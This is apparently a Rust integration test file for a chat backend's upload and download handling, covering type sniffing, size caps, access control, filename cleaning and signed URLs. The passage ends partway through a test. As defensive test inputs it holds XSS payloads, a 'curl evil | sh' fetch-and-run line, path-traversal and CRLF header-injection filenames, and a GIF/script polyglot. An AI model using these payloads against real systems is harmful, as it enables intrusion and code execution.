//! Uploads and downloads: type from bytes, size and dimension caps before decoding,
//! server-made storage keys, authorised downloads with safe headers.

use confab::infra::clock::Clock;
use confab_client::{ClientError, UploadMeta};
use confab_proto::accounts::MePatch;

use crate::harness::*;

fn code(e: &ClientError) -> (u16, &str) {
    (e.status().unwrap_or(0), e.code().unwrap_or("<none>"))
}

/// A real PNG of `w`×`h`.
pub fn png(w: u32, h: u32) -> Vec<u8> {
    let img = image::RgbImage::from_fn(w, h, |x, y| {
        image::Rgb([(x % 256) as u8, (y % 256) as u8, 90])
    });
    let mut out = std::io::Cursor::new(Vec::new());
    img.write_to(&mut out, image::ImageFormat::Png).unwrap();
    out.into_inner()
}

fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = 0xFFFF_FFFFu32;
    for &b in bytes {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// A PNG whose header claims `w`×`h` (a decompression bomb's calling card) with no real data.
fn png_claiming(w: u32, h: u32) -> Vec<u8> {
    fn chunk(out: &mut Vec<u8>, kind: &[u8], data: &[u8]) {
        out.extend_from_slice(&(data.len() as u32).to_be_bytes());
        let mut body = kind.to_vec();
        body.extend_from_slice(data);
        out.extend_from_slice(&body);
        out.extend_from_slice(&crc32(&body).to_be_bytes());
    }
    let mut ihdr = Vec::new();
    ihdr.extend_from_slice(&w.to_be_bytes());
    ihdr.extend_from_slice(&h.to_be_bytes());
    ihdr.extend_from_slice(&[8, 2, 0, 0, 0]);
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    chunk(&mut out, b"IHDR", &ihdr);
    chunk(
        &mut out,
        b"IDAT",
        &[0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01],
    );
    chunk(&mut out, b"IEND", &[]);
    out
}

/// Upload as an image (what avatars and image messages need).
fn image_kind() -> UploadMeta {
    UploadMeta {
        kind: Some("image".into()),
        ..UploadMeta::default()
    }
}

backend_tests! {
    async fn upload_an_avatar_and_others_see_it(app) {
        let alice = app.user("alice").await;
        let bob = app.user("bob").await;
        let data = png(640, 480);
        // The part's declared type and the name are ignored: the bytes decide.
        let f = alice.client.upload(data.clone(), "../../etc/passwd", "text/html").await.unwrap();
        assert_eq!((f.kind.as_str(), f.content_type.as_str()), ("image", "image/png"));
        assert_eq!((f.width, f.height, f.size), (Some(640), Some(480), data.len() as u64));
        assert_eq!(f.file_name, "passwd");
        assert_eq!(f.sha256.len(), 64);

        let d = alice.client.download(f.id, false).await.unwrap();
        assert_eq!(d.bytes, data);
        assert_eq!(d.content_type, "image/png");
        assert!(d.nosniff);
        assert_eq!(d.disposition, "inline");
        let thumb = alice.client.download(f.id, true).await.unwrap();
        let t = image::load_from_memory(&thumb.bytes).unwrap();
        assert_eq!((t.width(), t.height()), (320, 240));

        // Not Bob's business yet…
        assert_eq!(code(&bob.client.download(f.id, false).await.unwrap_err()), (404, "not_found"));
        // …until it is Alice's avatar.
        let me = alice.client.update_me(&MePatch { avatar: Some(Some(f.id)), ..MePatch::default() }).await.unwrap();
        assert_eq!(me.avatar, Some(f.id));
        assert_eq!(bob.client.user(alice.id()).await.unwrap().avatar, Some(f.id));
        assert_eq!(bob.client.download(f.id, false).await.unwrap().bytes, data);
        // Bob cannot use Alice's file as his avatar.
        let e = bob.client.update_me(&MePatch { avatar: Some(Some(f.id)), ..MePatch::default() }).await.unwrap_err();
        assert_eq!(code(&e), (404, "not_found"));
        // Anonymous: no.
        assert_eq!(code(&app.client.download(f.id, false).await.unwrap_err()), (401, "unauthorized"));

        // Stored under a server-made key only (embedded store: inside the blob dir).
        if app.config.redis.url.is_empty() {
            let root = app.data_dir().join("files");
            let mut found = Vec::new();
            let mut stack = vec![root.clone()];
            while let Some(d) = stack.pop() {
                for e in std::fs::read_dir(&d).unwrap() {
                    let p = e.unwrap().path();
                    if p.is_dir() { stack.push(p) } else { found.push(p) }
                }
            }
            assert!(found.iter().any(|p| p.ends_with(f.id.to_string())), "{found:?}");
            assert!(found.iter().all(|p| p.starts_with(&root) && !p.to_string_lossy().contains("passwd")));
        }
    }

    async fn only_real_images_are_accepted(app) {
        let u = app.user("u").await;
        for (bytes, name) in [
            (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>".to_vec(), "x.png"),
            (b"<html><script>alert(1)</script></html>".to_vec(), "x.jpg"),
            (b"%PDF-1.7 polyglot".to_vec(), "x.gif"),
            (vec![0u8; 4096], "zeros.png"),
            (b"\x89PNG".to_vec(), "short.png"),
        ] {
            let e = u.client.upload_with(bytes, name, "image/png", &image_kind()).await.unwrap_err();
            assert_eq!(code(&e), (415, "unsupported_file_type"), "{name}");
        }
        // A PNG header claiming 100,000 × 100,000 is refused before decoding.
        let e = u.client.upload(png_claiming(100_000, 100_000), "bomb.png", "image/png").await.unwrap_err();
        assert_eq!(code(&e), (422, "image_too_large"));
        // Truncated but plausible: unreadable, not a crash.
        let mut cut = png(64, 64);
        cut.truncate(cut.len() / 2);
        let e = u.client.upload_with(cut, "cut.png", "image/png", &image_kind()).await.unwrap_err();
        assert_eq!(code(&e), (415, "unsupported_file_type"));
        // No `file` part.
        let form = reqwest::multipart::Form::new().text("other", "x");
        let r = u.client.http().post(app.url("/api/v1/uploads")).bearer_auth(u.client.token().unwrap()).multipart(form).send().await.unwrap();
        assert_eq!(r.status().as_u16(), 422);
        // Not multipart at all.
        let r = u.client.http().post(app.url("/api/v1/uploads")).bearer_auth(u.client.token().unwrap()).json(&serde_json::json!({})).send().await.unwrap();
        assert_eq!(r.status().as_u16(), 400);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oversized_uploads_are_cut_off_while_streaming() {
    let app = TestApp::spawn_with(Backend::Sqlite, |c| c.media.max_image_bytes = 50_000).await;
    let u = app.user("big").await;
    let mut data = png(32, 32);
    data.resize(200_000, 0);
    let e = u
        .client
        .upload(data, "big.png", "image/png")
        .await
        .unwrap_err();
    assert_eq!(code(&e), (413, "payload_too_large"));
    // Within the cap is fine.
    u.client
        .upload(png(100, 100), "ok.png", "image/png")
        .await
        .unwrap();
}

backend_tests! {
    async fn files_sent_in_a_chat_are_readable_by_its_members_only(app) {
        let alice = app.user("alice").await;
        let bob = app.user("bob").await;
        let carol = app.user("carol").await;
        let eve = app.user("eve").await;
        app.befriend(&alice, &bob).await;
        let ab = alice.client.open_direct(bob.id()).await.unwrap();
        let f = alice.client.upload(png(40, 30), "pic.png", "image/png").await.unwrap();
        // Not shared yet: only Alice.
        assert_eq!(code(&bob.client.download(f.id, false).await.unwrap_err()), (404, "not_found"));
        let m = confab_proto::messaging::MessageIn {
            client_msg_id: "pic-1".into(),
            kind: "image".into(),
            body: serde_json::json!({ "file_id": f.id }),
            reply_to: None,
            mentions: None,
        };
        let sent = alice.client.send(ab.id, &m).await.unwrap();
        // Bob, a member who can see the message, may download it and its thumbnail.
        assert_eq!(bob.client.download(f.id, false).await.unwrap().content_type, "image/png");
        bob.client.download(f.id, true).await.unwrap();
        // Strangers may not, nor may members of another chat of Alice's.
        app.befriend(&alice, &carol).await;
        let ac = alice.client.open_direct(carol.id()).await.unwrap();
        alice.client.send_text(ac.id, "hi carol").await.unwrap();
        for who in [&eve, &carol] {
            assert_eq!(code(&who.client.download(f.id, false).await.unwrap_err()), (404, "not_found"));
        }
        // Once Alice recalls the message, it no longer shares the file.
        alice.client.recall_message(ab.id, sent.seq).await.unwrap();
        assert_eq!(code(&bob.client.download(f.id, false).await.unwrap_err()), (404, "not_found"));
        alice.client.download(f.id, false).await.unwrap();
        // Sent again, then cleared from Bob's history: gone for him, still there for Alice.
        let mut again = m.clone();
        again.client_msg_id = "pic-2".into();
        alice.client.send(ab.id, &again).await.unwrap();
        bob.client.download(f.id, false).await.unwrap();
        bob.client.clear_conversation(ab.id).await.unwrap();
        assert_eq!(code(&bob.client.download(f.id, false).await.unwrap_err()), (404, "not_found"));
    }
}

// ------------------------------------------------------------ every kind, streamed

/// An MP4 (ISO base media) header followed by `len` filler bytes.
fn mp4(len: usize) -> Vec<u8> {
    let mut v = b"\0\0\0\x18ftypisom\0\0\x02\0isomiso2\0\0\0\x08free".to_vec();
    v.extend((0..len).map(|i| (i * 7 % 251) as u8));
    v
}

/// An MP3 (ID3v2 tag) followed by `len` filler bytes.
fn mp3(len: usize) -> Vec<u8> {
    let mut v = b"ID3\x04\0\0\0\0\0\0".to_vec();
    v.extend((0..len).map(|i| (i * 13 % 251) as u8));
    v
}

/// A WebM (EBML) header: what browsers record voice notes in.
fn webm(len: usize) -> Vec<u8> {
    let mut v = b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\x82\x84webm".to_vec();
    v.extend((0..len).map(|i| (i * 3 % 251) as u8));
    v
}

fn pdf(len: usize) -> Vec<u8> {
    let mut v = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    v.extend((0..len).map(|i| (i % 200) as u8 + 32));
    v
}

fn sha256_hex(b: &[u8]) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(b))
}

fn meta(kind: Option<&str>, duration_ms: Option<u64>, size: Option<(u32, u32)>) -> UploadMeta {
    UploadMeta {
        kind: kind.map(Into::into),
        duration_ms,
        size,
    }
}

fn attachment(
    cmid: &str,
    kind: &str,
    f: &confab_proto::media::FileOut,
) -> confab_proto::messaging::MessageIn {
    confab_proto::messaging::MessageIn {
        client_msg_id: cmid.into(),
        kind: kind.into(),
        body: serde_json::json!({ "file_id": f.id, "caption": "look" }),
        reply_to: None,
        mentions: None,
    }
}

/// Every file under `root`.
fn files_under(root: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut found = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(rd) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in rd {
            let p = e.unwrap().path();
            if p.is_dir() {
                stack.push(p)
            } else {
                found.push(p)
            }
        }
    }
    found
}

backend_tests! {
    async fn video_audio_and_files_upload_with_their_metadata_and_travel_in_messages(app) {
        let alice = app.user("alice").await;
        let bob = app.user("bob").await;
        let eve = app.user("eve").await;
        app.befriend(&alice, &bob).await;
        // Large enough to take several parts in the blob store (1 MiB parts locally).
        let video_bytes = mp4(2_500_000);
        let video = alice.client.upload_with(video_bytes.clone(), "clip.mp4", "application/octet-stream",
            &meta(None, Some(12_345), Some((1280, 720)))).await.unwrap();
        assert_eq!((video.kind.as_str(), video.content_type.as_str()), ("video", "video/mp4"));
        assert_eq!((video.size, video.sha256.clone()), (video_bytes.len() as u64, sha256_hex(&video_bytes)));
        assert_eq!((video.width, video.height, video.duration_ms), (Some(1280), Some(720), Some(12_345)));
        assert_eq!((video.file_name.as_str(), video.thumbnail_url.as_deref()), ("clip.mp4", None));

        let audio_bytes = mp3(40_000);
        let audio = alice.client.upload_with(audio_bytes.clone(), "note.mp3", "audio/mpeg", &meta(None, Some(3_000), None)).await.unwrap();
        assert_eq!((audio.kind.as_str(), audio.content_type.as_str(), audio.duration_ms), ("audio", "audio/mpeg", Some(3_000)));
        assert_eq!(audio.width, None);
        // A voice note recorded into WebM is audio when the client says so (the container
        // alone would make it a video).
        let voice = alice.client.upload_with(webm(5_000), "voice.webm", "audio/webm", &meta(Some("audio"), Some(900), None)).await.unwrap();
        assert_eq!((voice.kind.as_str(), voice.content_type.as_str()), ("audio", "video/webm"));
        let as_video = alice.client.upload(webm(5_000), "v.webm", "video/webm").await.unwrap();
        assert_eq!(as_video.kind, "video");

        let doc_bytes = pdf(30_000);
        let doc = alice.client.upload(doc_bytes.clone(), "Résumé 2026.pdf", "application/pdf").await.unwrap();
        assert_eq!((doc.kind.as_str(), doc.content_type.as_str(), doc.duration_ms), ("file", "application/pdf", None));
        let csv = alice.client.upload(b"name,score\nalice,3\n".to_vec(), "scores.csv", "text/csv").await.unwrap();
        assert_eq!((csv.kind.as_str(), csv.content_type.as_str()), ("file", "text/plain; charset=utf-8"));
        let blob = alice.client.upload(vec![0xde, 0xad, 0xbe, 0xef, 0, 1, 2, 3, 250, 251], "data.bin", "x/y").await.unwrap();
        assert_eq!(blob.content_type, "application/octet-stream");
        // An image may be sent as a plain file: stored as is, never decoded, not inline.
        let pic_file = alice.client.upload_with(png(20, 20), "pic.png", "image/png", &meta(Some("file"), None, None)).await.unwrap();
        assert_eq!((pic_file.kind.as_str(), pic_file.content_type.as_str(), pic_file.width), ("file", "image/png", None));

        // The owner downloads every one byte for byte, as an attachment, never sniffed.
        let d = alice.client.download(video.id, false).await.unwrap();
        assert_eq!((d.bytes.len(), d.content_type.as_str(), d.nosniff), (video_bytes.len(), "video/mp4", true));
        assert!(d.bytes == video_bytes);
        assert_eq!(d.disposition, "attachment; filename=\"clip.mp4\"; filename*=UTF-8''clip.mp4");
        let d = alice.client.download(doc.id, false).await.unwrap();
        assert_eq!(d.bytes, doc_bytes);
        assert_eq!(d.disposition, "attachment; filename=\"R_sum_ 2026.pdf\"; filename*=UTF-8''R%C3%A9sum%C3%A9%202026.pdf");
        assert!(alice.client.download(pic_file.id, false).await.unwrap().disposition.starts_with("attachment"));
        assert!(alice.client.download(voice.id, true).await.is_err(), "no thumbnail for audio");

        // Messages of each kind carry them, with the facts a receiver needs to render them.
        let c = alice.client.open_direct(bob.id()).await.unwrap();
        alice.client.send(c.id, &attachment("v1", "video", &video)).await.unwrap();
        alice.client.send(c.id, &attachment("a1", "audio", &audio)).await.unwrap();
        alice.client.send(c.id, &attachment("a2", "audio", &voice)).await.unwrap();
        alice.client.send(c.id, &attachment("f1", "file", &doc)).await.unwrap();
        // `file` may carry any upload; the other kinds only their own.
        alice.client.send(c.id, &attachment("f2", "file", &as_video)).await.unwrap();
        for (cmid, kind, f) in [("x1", "video", &audio), ("x2", "audio", &doc), ("x3", "image", &pic_file), ("x4", "video", &csv)] {
            let e = alice.client.send(c.id, &attachment(cmid, kind, f)).await.unwrap_err();
            assert_eq!(code(&e), (422, "invalid_message"), "{kind} carrying {}", f.kind);
        }
        // Bob cannot send Alice's files.
        let e = bob.client.send(c.id, &attachment("b1", "file", &doc)).await.unwrap_err();
        assert_eq!(code(&e), (422, "invalid_message"));

        let h = bob.client.history(c.id, None, None, None).await.unwrap();
        assert_eq!(h.messages.len(), 5);
        let v = &h.messages[0];
        assert_eq!((v.kind.as_str(), v.body["file_id"].as_str()), ("video", Some(video.id.to_string().as_str())));
        assert_eq!(v.body["file"], serde_json::json!({"kind": "video", "content_type": "video/mp4",
            "size": video_bytes.len(), "file_name": "clip.mp4", "width": 1280, "height": 720, "duration_ms": 12_345}));
        assert_eq!(h.messages[1].body["file"]["duration_ms"], 3_000);
        assert_eq!(h.messages[3].body["file"]["content_type"], "application/pdf");
        // A retry of the same send is the same message (the body is rebuilt identically).
        let again = alice.client.send(c.id, &attachment("v1", "video", &video)).await.unwrap();
        assert_eq!(again.seq, 1);

        // Bob, who can see those messages, downloads them; Eve cannot; nor can Bob fetch
        // files that were never sent to him.
        assert!(bob.client.download(video.id, false).await.unwrap().bytes == video_bytes);
        assert_eq!(bob.client.download(audio.id, false).await.unwrap().bytes, audio_bytes);
        assert_eq!(bob.client.download(doc.id, false).await.unwrap().bytes, doc_bytes);
        for f in [&video, &audio, &voice, &doc] {
            assert_eq!(code(&eve.client.download(f.id, false).await.unwrap_err()), (404, "not_found"));
        }
        for f in [&csv, &blob, &pic_file] {
            assert_eq!(code(&bob.client.download(f.id, false).await.unwrap_err()), (404, "not_found"));
        }
    }

    async fn dangerous_content_names_and_metadata_are_refused(app) {
        let u = app.user("u").await;
        // Content a browser or a desktop would act on: refused whatever it is called.
        for (bytes, name) in [
            (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>".to_vec(), "cat.txt"),
            (b"<!doctype html><script>alert(1)</script>".to_vec(), "notes.txt"),
            (b"hello\n<script>alert(document.cookie)</script>\n".to_vec(), "a.csv"),
            (b"<?xml version='1.0'?><x/>".to_vec(), "data.dat"),
            (b"#!/bin/sh\ncurl evil | sh\n".to_vec(), "install"),
            (b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0".to_vec(), "tool"),
            (b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".to_vec(), "setup.dat"),
            (Vec::new(), "empty.txt"),
        ] {
            for kind in [None, Some("file")] {
                let e = u.client.upload_with(bytes.clone(), name, "text/plain", &meta(kind, None, None)).await.unwrap_err();
                assert_eq!(code(&e), (415, "unsupported_file_type"), "{name} as {kind:?}");
            }
        }
        // Names that would run or render once downloaded: refused whatever the content.
        for name in ["setup.exe", "invoice.pdf.exe", "page.HTML", "logo.svg", "run.sh", "x.ps1", "a.js"] {
            let e = u.client.upload(pdf(100), name, "application/pdf").await.unwrap_err();
            assert_eq!(code(&e), (415, "unsupported_file_type"), "{name}");
        }
        // A polyglot (a GIF header over a script): not an image (it does not decode); as a
        // file it is stored, but served as a GIF attachment, never inline, never sniffed.
        let poly = b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(1)//<script>alert(2)</script>".to_vec();
        let e = u.client.upload(poly.clone(), "p.gif", "image/gif").await.unwrap_err();
        assert_eq!(code(&e), (415, "unsupported_file_type"));
        let f = u.client.upload_with(poly.clone(), "p.gif", "text/html", &meta(Some("file"), None, None)).await.unwrap();
        assert_eq!((f.kind.as_str(), f.content_type.as_str()), ("file", "image/gif"));
        let d = u.client.download(f.id, false).await.unwrap();
        assert_eq!((d.content_type.as_str(), d.nosniff), ("image/gif", true));
        assert!(d.disposition.starts_with("attachment;"), "{}", d.disposition);

        // Traversal and control characters in names are metadata, cleaned; the bytes are
        // stored under a server-made key inside the storage root.
        let mut kept = Vec::new();
        for (raw, clean) in [
            ("../../etc/passwd", "passwd"),
            ("..\\..\\windows\\win.ini", "win.ini"),
            ("%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
            ("evil\u{202e}fdp.exe.pdf", "evilfdp.exe.pdf"),
        ] {
            let f = u.client.upload(pdf(500), raw, "application/pdf").await.unwrap_or_else(|e| panic!("{raw:?}: {e}"));
            assert_eq!(f.file_name, clean);
            let d = u.client.download(f.id, false).await.unwrap();
            assert!(d.disposition.starts_with("attachment; filename=\""), "{}", d.disposition);
            assert!(!d.disposition.contains('\r') && !d.disposition.contains('\n'));
            kept.push(f.id);
        }
        // A raw CR LF in the part's header breaks the multipart framing itself: refused,
        // nothing stored, and no header injected anywhere.
        // So does a raw NUL (the cleaner drops control characters too, see the unit tests).
        for name in [&b"x\r\nContent-Type: text/html\r\n\r\n.pdf"[..], b"a\0b.pdf"] {
            let mut raw = b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"".to_vec();
            raw.extend_from_slice(name);
            raw.extend_from_slice(b"\"\r\n\r\n%PDF-1.7 hello\r\n--XyZ--\r\n");
            let r = u.client.http().post(app.url("/api/v1/uploads")).bearer_auth(u.client.token().unwrap())
                .header("content-type", "multipart/form-data; boundary=XyZ").body(raw).send().await.unwrap();
            // Either the framing is refused, or the "injected" header is just another part
            // header (ignored: the bytes decide) and the name is cut at the line break.
            if r.status().as_u16() == 201 {
                let f: confab_proto::media::FileOut = r.json().await.unwrap();
                assert!(!f.file_name.contains(['\r', '\n', '\0']), "{:?}", f.file_name);
                assert_eq!((f.kind.as_str(), f.content_type.as_str()), ("file", "text/plain; charset=utf-8"));
                let d = u.client.download(f.id, false).await.unwrap();
                assert!(d.nosniff && d.disposition.starts_with("attachment;"), "{d:?}");
                kept.push(f.id);
            } else {
                assert_eq!(r.status().as_u16(), 400, "{name:?}");
            }
        }
        if app.config.redis.url.is_empty() {
            let root = app.data_dir().join("files");
            let found = files_under(&root);
            assert_eq!(found.len(), 1 + kept.len(), "{found:?}");
            for id in &kept {
                assert!(found.iter().any(|p| p.ends_with(id.to_string())), "{id} not stored");
            }
            assert!(found.iter().all(|p| {
                let name = p.file_name().unwrap().to_string_lossy().to_string();
                name.bytes().all(|b| b.is_ascii_digit() || b == b'-' || b.is_ascii_lowercase())
            }), "{found:?}");
            assert!(files_under(&app.data_dir().join("..")).iter().all(|p| !p.to_string_lossy().contains("passwd")));
        }

        // Declared metadata: bounded, and only where it fits.
        for (m, field) in [
            (meta(None, Some(0), None), "duration_ms"),
            (meta(None, Some(86_400_001), None), "duration_ms"),
            (meta(None, None, Some((0, 10))), "width"),
            (meta(None, None, Some((10, 16_385))), "height"),
        ] {
            let e = u.client.upload_with(mp4(100), "v.mp4", "video/mp4", &m).await.unwrap_err();
            assert_eq!((code(&e), e.field()), ((422, "validation_failed"), Some(field)), "{m:?}");
        }
        let e = u.client.upload_with(pdf(100), "d.pdf", "application/pdf", &meta(None, Some(5), None)).await.unwrap_err();
        assert_eq!((code(&e), e.field()), ((422, "validation_failed"), Some("duration_ms")));
        let e = u.client.upload_with(mp3(100), "a.mp3", "audio/mpeg", &meta(None, None, Some((5, 5)))).await.unwrap_err();
        assert_eq!((code(&e), e.field()), ((422, "validation_failed"), Some("width")));
        let e = u.client.upload_with(png(8, 8), "i.png", "image/png", &meta(Some("video"), None, None)).await.unwrap_err();
        assert_eq!(code(&e), (415, "unsupported_file_type"));
        let e = u.client.upload_with(pdf(100), "d.pdf", "application/pdf", &meta(Some("banana"), None, None)).await.unwrap_err();
        assert_eq!((code(&e), e.field()), ((422, "validation_failed"), Some("kind")));
        // Raw forms: a text part that is not a number, an unknown part, a part after the
        // file (refused, and nothing of it kept).
        let post = |form: reqwest::multipart::Form| {
            u.client.http().post(app.url("/api/v1/uploads")).bearer_auth(u.client.token().unwrap()).multipart(form).send()
        };
        let file = || reqwest::multipart::Part::bytes(mp4(100)).file_name("v.mp4");
        let r = post(reqwest::multipart::Form::new().text("duration_ms", "12e3").part("file", file())).await.unwrap();
        assert_eq!(r.status().as_u16(), 422);
        let r = post(reqwest::multipart::Form::new().text("duration_ms", "1".repeat(100)).part("file", file())).await.unwrap();
        assert_eq!(r.status().as_u16(), 422);
        let r = post(reqwest::multipart::Form::new().text("owner", "someone-else").part("file", file())).await.unwrap();
        assert_eq!(r.status().as_u16(), 422);
        let before = app.data_dir().join("files");
        let count_before = files_under(&before).len();
        let r = post(reqwest::multipart::Form::new().part("file", file()).text("kind", "video")).await.unwrap();
        assert_eq!(r.status().as_u16(), 422);
        if app.config.redis.url.is_empty() {
            eventually(std::time::Duration::from_secs(5), "the refused upload's blob removed", || async {
                (files_under(&before).len() == count_before).then_some(())
            }).await;
        }
    }
}

/// Streams `total` bytes starting with `head`, counting how many the client was asked for.
fn counted_stream(
    head: Vec<u8>,
    total: usize,
    pulled: std::sync::Arc<std::sync::atomic::AtomicUsize>,
) -> reqwest::Body {
    use std::sync::atomic::Ordering;
    const CHUNK: usize = 64 * 1024;
    let stream = futures::stream::unfold(0usize, move |sent| {
        let head = head.clone();
        let pulled = pulled.clone();
        async move {
            if sent >= total {
                return None;
            }
            let n = CHUNK.min(total - sent);
            let mut chunk = vec![0x55u8; n];
            if sent == 0 {
                chunk[..head.len()].copy_from_slice(&head);
            }
            pulled.fetch_add(n, Ordering::SeqCst);
            Some((Ok::<_, std::io::Error>(bytes::Bytes::from(chunk)), sent + n))
        }
    });
    reqwest::Body::wrap_stream(stream)
}

async fn oversized_kinds_are_cut_off_while_streaming(backend: Backend) {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicUsize, Ordering};
    let app = TestApp::spawn_with(backend, |c| {
        c.media.max_video_bytes = 200_000;
        c.media.max_audio_bytes = 100_000;
        c.media.max_file_bytes = 150_000;
        // The body limit of the route stays at the image cap plus framing (10 MiB): what
        // stops these is the per-kind count while streaming.
    })
    .await;
    let u = app.user("big").await;
    const TOTAL: usize = 48 * 1024 * 1024;
    for (kind, head, declared, cap) in [
        ("video", mp4(0), None, 200_000),
        ("audio", mp3(0), None, 100_000),
        ("file", pdf(0), None, 150_000),
        ("audio", webm(0), Some("audio"), 100_000),
    ] {
        let pulled = Arc::new(AtomicUsize::new(0));
        // No length: a chunked body, so no Content-Length check can refuse it up front.
        let part = reqwest::multipart::Part::stream(counted_stream(head, TOTAL, pulled.clone()))
            .file_name("big.bin");
        let res = u
            .client
            .upload_part(part, &meta(declared, None, None))
            .await;
        let sent = pulled.load(Ordering::SeqCst);
        assert!(
            sent < 12 * 1024 * 1024,
            "{kind}: the server read {sent} of {TOTAL} bytes before refusing"
        );
        match res {
            Err(e) if e.status().is_some() => {
                assert_eq!(code(&e), (413, "payload_too_large"), "{kind}");
                assert!(
                    e.to_string()
                        .contains(&format!("{kind} uploads are limited to {cap} bytes")),
                    "{e}"
                );
            }
            // The server may close the connection while the client is still sending; then
            // the client sees the reset rather than the answer. The byte count above is what
            // proves the cut-off.
            Err(e) => eprintln!("{kind}: connection closed while sending: {e}"),
            Ok(f) => panic!("{kind}: an oversized upload was accepted: {f:?}"),
        }
    }
    // Within the caps, each kind is fine.
    u.client
        .upload(mp4(150_000), "ok.mp4", "video/mp4")
        .await
        .unwrap();
    u.client
        .upload(mp3(90_000), "ok.mp3", "audio/mpeg")
        .await
        .unwrap();
    u.client
        .upload(pdf(140_000), "ok.pdf", "application/pdf")
        .await
        .unwrap();
    // A declared Content-Length above the route's limit is refused before any byte is read.
    let r = u
        .client
        .http()
        .post(app.url("/api/v1/uploads"))
        .bearer_auth(u.client.token().unwrap())
        .header("content-type", "multipart/form-data; boundary=x")
        .header("content-length", "10000000000")
        .send()
        .await;
    if let Ok(r) = r {
        assert_eq!(r.status().as_u16(), 413);
    }
    // Nothing half-written is left in the blob store (the local one: staging files).
    if app.config.redis.url.is_empty() {
        let root = app.data_dir().join("files");
        eventually(
            std::time::Duration::from_secs(5),
            "only the three accepted blobs",
            || async { (files_under(&root).len() == 3).then_some(()) },
        )
        .await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oversized_kinds_are_cut_off_while_streaming_sqlite() {
    oversized_kinds_are_cut_off_while_streaming(Backend::Sqlite).await;
}

#[cfg_attr(
    not(all(confab_mysql, confab_redis)),
    ignore = "set CONFAB_TEST_MYSQL_URL and CONFAB_TEST_REDIS_URL"
)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oversized_kinds_are_cut_off_while_streaming_mysql_redis() {
    let Some(backend) = Backend::cluster() else {
        return;
    };
    oversized_kinds_are_cut_off_while_streaming(backend).await;
}

// ------------------------------------------------------------ signed URLs

backend_tests! {
    async fn signed_urls_work_without_a_token_until_they_expire(app) {
        let alice = app.user("alice").await;
        let bob = app.user("bob").await;
        let eve = app.user("eve").await;
        app.befriend(&alice, &bob).await;
        let anon = &app.client;
        let doc_bytes = pdf(20_000);
        let doc = alice.client.upload(doc_bytes.clone(), "plan.pdf", "application/pdf").await.unwrap();
        let pic = alice.client.upload(png(64, 48), "pic.png", "image/png").await.unwrap();
        let c = alice.client.open_direct(bob.id()).await.unwrap();
        let sent = alice.client.send(c.id, &attachment("d1", "file", &doc)).await.unwrap();
        alice.client.send(c.id, &attachment("p1", "image", &pic)).await.unwrap();

        // Bob may see the file, so he may have a URL for it; Eve may not.
        let s = bob.client.file_url(doc.id).await.unwrap();
        let ttl = (s.expires_at - app.clock.now()).num_seconds();
        assert!((299..=300).contains(&ttl), "{ttl}");
        assert_eq!(s.thumbnail_url, None);
        assert_eq!(code(&eve.client.file_url(doc.id).await.unwrap_err()), (404, "not_found"));
        assert_eq!(code(&anon.file_url(doc.id).await.unwrap_err()), (401, "unauthorized"));
        // No token needed; same safe headers.
        let d = anon.download_signed(&s.url).await.unwrap();
        assert_eq!((d.bytes.clone(), d.nosniff), (doc_bytes.clone(), true));
        assert!(d.disposition.starts_with("attachment;"));
        let p = bob.client.file_url(pic.id).await.unwrap();
        let thumb = anon.download_signed(p.thumbnail_url.as_deref().unwrap()).await.unwrap();
        assert_eq!((thumb.content_type.as_str(), thumb.disposition.as_str()), ("image/jpeg", "inline"));

        // Tampering anywhere breaks it: another file, another user, another expiry, the sig.
        let url = url::Url::parse(&app.url(&s.url)).unwrap();
        let q: std::collections::HashMap<String, String> = url.query_pairs().into_owned().collect();
        let (u, exp, sig) = (&q["u"], q["exp"].parse::<i64>().unwrap(), &q["sig"]);
        let mut flipped = sig.clone().into_bytes();
        flipped[3] = if flipped[3] == b'A' { b'B' } else { b'A' };
        let flipped = String::from_utf8(flipped).unwrap();
        for bad in [
            format!("/api/v1/files/{}?u={u}&exp={exp}&sig={sig}", pic.id),
            format!("/api/v1/files/{}?u={}&exp={exp}&sig={sig}", doc.id, alice.id()),
            format!("/api/v1/files/{}?u={u}&exp={}&sig={sig}", doc.id, exp + 1),
            format!("/api/v1/files/{}?u={u}&exp={exp}&sig={flipped}", doc.id),
            format!("/api/v1/files/{}?u={u}&exp={exp}&sig=", doc.id),
        ] {
            assert_eq!(code(&anon.download_signed(&bad).await.unwrap_err()), (403, "signature_invalid"), "{bad}");
        }
        for partial in [
            format!("/api/v1/files/{}?u={u}&exp={exp}", doc.id),
            format!("/api/v1/files/{}?sig={sig}", doc.id),
            format!("/api/v1/files/{}?u={u}&exp={exp}&sig={}", doc.id, "A".repeat(500)),
        ] {
            assert_eq!(code(&anon.download_signed(&partial).await.unwrap_err()).0, 422, "{partial}");
        }
        assert_eq!(code(&anon.download_signed(&format!("/api/v1/files/{}?u=x&exp={exp}&sig={sig}", doc.id)).await.unwrap_err()).0, 400);

        // Access is checked again for the user it was signed for: once the message is
        // recalled, Bob's URL stops working, while Alice's (the owner's) still works.
        let mine = alice.client.file_url(doc.id).await.unwrap();
        alice.client.recall_message(c.id, sent.seq).await.unwrap();
